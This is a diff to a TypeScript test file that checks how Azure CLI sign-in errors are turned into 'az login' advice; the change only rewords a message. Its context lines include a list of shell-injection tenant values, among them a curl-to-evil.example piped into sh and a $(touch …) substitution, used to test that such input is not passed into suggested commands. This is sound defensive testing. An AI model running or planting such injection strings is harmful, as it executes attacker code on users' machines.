@@ -77,22 +77,22 @@ describe('a session over a credential', () => {
   const expired =
     'ERROR: AADSTS70043: The refresh token has expired or is invalid due to sign-in frequency checks by conditional access. canary-token\nInteractive authentication is needed. Please run:\naz login --scope https://management.core.windows.net//.default';
   const rows: readonly (readonly [message: string, request: TokenRequest, told: string, nextStep: string])[] = [
-    [login, {}, 'Nobody is signed in there.', 'Run "az login" in a terminal, then try again.'],
+    [login, {}, 'No account is signed in there.', 'Run "az login" in a terminal, then try again.'],
     [
       login,
       { tenantId },
-      `Nobody is signed in there for the tenant ${tenantId}.`,
+      `No account is signed in there for the tenant ${tenantId}.`,
       `Run "az login --tenant ${tenantId}" in a terminal, then try again.`,
     ],
     [
       login,
       { tenantId: 'contoso.onmicrosoft.com' },
-      'Nobody is signed in there for the tenant contoso.onmicrosoft.com.',
+      'No account is signed in there for the tenant contoso.onmicrosoft.com.',
       'Run "az login --tenant contoso.onmicrosoft.com" in a terminal, then try again.',
     ],
     // a challenge may say anything, and what a user copies goes into a shell
     ...["x;curl$IFS'evil.example/a'|sh", '$(touch$IFS/tmp/owned)', 'contoso.onmicrosoft.com&&calc', '--allow-no-subscriptions', 'a.example\nb', 'a..b'].map(
-      tenant => [login, { tenantId: tenant }, 'Nobody is signed in there.', 'Run "az login" in a terminal, then try again.'] as const,
+      tenant => [login, { tenantId: tenant }, 'No account is signed in there.', 'Run "az login" in a terminal, then try again.'] as const,
     ),
     [
       notInstalled,
